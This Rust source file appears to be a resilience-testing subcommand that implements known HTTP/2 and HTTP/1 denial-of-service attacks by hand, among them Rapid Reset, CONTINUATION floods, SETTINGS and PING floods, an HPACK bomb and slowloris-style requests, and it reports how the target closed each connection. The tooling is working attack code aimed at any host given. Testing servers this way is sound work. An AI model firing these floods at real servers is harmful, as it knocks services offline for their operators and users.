//! Peers that mean harm: floods of HTTP/2 frames and headers without end, by hand.

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use serde_json::json;

/// Options of `hostile`.
#[derive(Args, Clone, Debug)]
pub(crate) struct Hostile {
    /// HOST:PORT.
    to: String,
    /// What to do.
    #[arg(long, value_enum)]
    kind: Kind,
    /// Connections at a time.
    #[arg(long, default_value_t = 1)]
    connections: usize,
    /// How long at most.
    #[arg(long, default_value_t = 3.0)]
    seconds: f64,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// HEADERS and RST_STREAM, again and again (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316).
    Continuation,
    /// SETTINGS that want an ACK each (CVE-2019-9515), whose ACKs nobody reads.
    Settings,
    /// PING likewise (CVE-2019-9512).
    Ping,
    /// A large header in the dynamic table, named again and again (HPACK bomb).
    HpackBomb,
    /// HTTP/1 header lines without end.
    Headers,
    /// One HTTP/1 header line without end.
    Line,
    /// Requests for large answers that nobody reads.
    Unread,
    /// Half a request, and silence.
    Slow,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

impl Hostile {
    /// Prints how each connection ended, and how much it could send.
    pub(crate) fn run(self) -> Result<()> {
        let address = self.to.to_socket_addrs()?.next().context("no address")?;
        let each = (0..self.connections).map(|_| {
            let options = self.clone();
            std::thread::spawn(move || {
                options.attack(&TcpStream::connect_timeout(&address, Duration::from_secs(3))?)
            })
        });
        let threads: Vec<_> = each.collect();
        let mut ends: Vec<serde_json::Value> = Vec::new();
        for thread in threads {
            ends.push(match thread.join().map_err(|_panic| anyhow::anyhow!("thread"))? {
                Ok(end) => end,
                Err(error) => json!({ "end": format!("{error:#}") }),
            });
        }
        println!("{}", json!({ "connections": ends }));
        Ok(())
    }

    fn attack(&self, stream: &TcpStream) -> Result<serde_json::Value> {
        let begun = Instant::now();
        let limit = Duration::from_secs_f64(self.seconds);
        stream.set_write_timeout(Some(limit))?;
        let (mut writer, mut sent) = (stream, 0u64);
        let mut refused = None;
        for number in 0u32.. {
            if begun.elapsed() >= limit {
                break;
            }
            let Some(bytes) = self.bytes(number) else { break };
            match writer.write_all(&bytes) {
                Ok(()) => sent += bytes.len() as u64,
                Err(error) => {
                    refused = Some(format!("{:?}", error.kind()));
                    break;
                }
            }
        }
        let (end, goaway) = ended(stream, limit.saturating_sub(begun.elapsed()))?;
        Ok(json!({ "sent": sent, "refused": refused, "end": end, "goaway": goaway,
                   "seconds": begun.elapsed().as_secs_f64() }))
    }

    /// What is sent at the n-th turn; `None`: no more.
    fn bytes(&self, number: u32) -> Option<Vec<u8>> {
        let host = self.to.split(':').next().unwrap_or_default();
        let opening = || [PREFACE, &frame(4, 0, 0, &[])].concat();
        let h2 = |rest: Vec<u8>| if number == 0 { [opening(), rest].concat() } else { rest };
        let stream = number.wrapping_mul(2) + 1;
        Some(match self.kind {
            Kind::RapidReset => {
                h2([frame(1, 0x5, stream, &request(host)), frame(3, 0, stream, &8u32.to_be_bytes())].concat())
            }
            Kind::Continuation if number == 0 => h2(frame(1, 0, 1, &request(host))),
            // A literal header, not indexed, of a new name.
            Kind::Continuation => {
                frame(9, 0, 1, &literal(&format!("x-{number}"), &"y".repeat(100)).repeat(50))
            }
            Kind::Settings => h2(frame(4, 0, 0, &[]).repeat(100)),
            Kind::Ping => h2(frame(6, 0, 0, &[7; 8]).repeat(100)),
            Kind::HpackBomb => {
                // 0x40: a literal that goes into the table, at index 62.
                let mut block = request(host);
                block.push(0x40);
                block.extend(text("x-bomb"));
                block.extend(text(&"b".repeat(4000)));
                block.extend([0x80 | 62; 8000]);
                h2(frame(1, 0x5, stream, &block))
            }
            Kind::Headers if number == 0 => format!("GET / HTTP/1.1\r\nhost: {host}\r\n").into(),
            Kind::Headers => format!("x-{number}: {}\r\n", "y".repeat(200)).into(),
            Kind::Line if number == 0 => b"GET / HTTP/1.1\r\nx-long: ".to_vec(),
            Kind::Line => vec![b'y'; 4096],
            Kind::Unread => format!("GET /?bytes=100000000 HTTP/1.1\r\nhost: {host}\r\n\r\n").into(),
            Kind::Slow if number == 0 => format!("GET / HTTP/1.1\r\nhost: {host}\r\n").into(),
            Kind::Slow => return None,
        })
        .filter(|_| self.kind != Kind::Unread || number < 100)
    }
}

/// How it ended, after all that was answered has been read: `closed`, `reset` or `open`, and the code of a GOAWAY.
fn ended(mut stream: &TcpStream, patience: Duration) -> Result<(&'static str, Option<u32>)> {
    stream.set_read_timeout(Some(patience.max(Duration::from_millis(200))))?;
    let (mut bytes, mut buffer, begun) = (Vec::new(), vec![0; 65_536], Instant::now());
    let end = loop {
        if begun.elapsed() > patience + Duration::from_secs(1) {
            break "open";
        }
        match stream.read(&mut buffer) {
            Ok(0) => break "closed",
            Ok(count) => {
                bytes.extend_from_slice(&buffer[..count]);
                bytes.drain(..bytes.len().saturating_sub(4096));
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break "open",
            Err(_reset) => break "reset",
        }
    };
    // Length of 8 or more, type 7, no flags, stream 0, the last stream, the code.
    let goaway =
        bytes.windows(17).rev().find(|w| w[..2] == [0, 0] && w[2] >= 8 && w[3..9] == [7, 0, 0, 0, 0, 0]);
    let code = goaway.map(|window| u32::from_be_bytes([window[13], window[14], window[15], window[16]]));
    Ok((end, code))
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// `GET /` by HPACK's static table.
fn request(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01];
    block.extend(text(host));
    block
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0x00], text(name), text(value)].concat()
}

/// RFC 7541, 5.2, without Huffman.
fn text(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    match text.len() {
        short @ 0..127 => bytes.push(short as u8),
        long => {
            let mut rest = long - 127;
            bytes.push(127);
            while rest >= 128 {
                bytes.push((rest % 128) as u8 | 0x80);
                rest /= 128;
            }
            bytes.push(rest as u8);
        }
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes
}
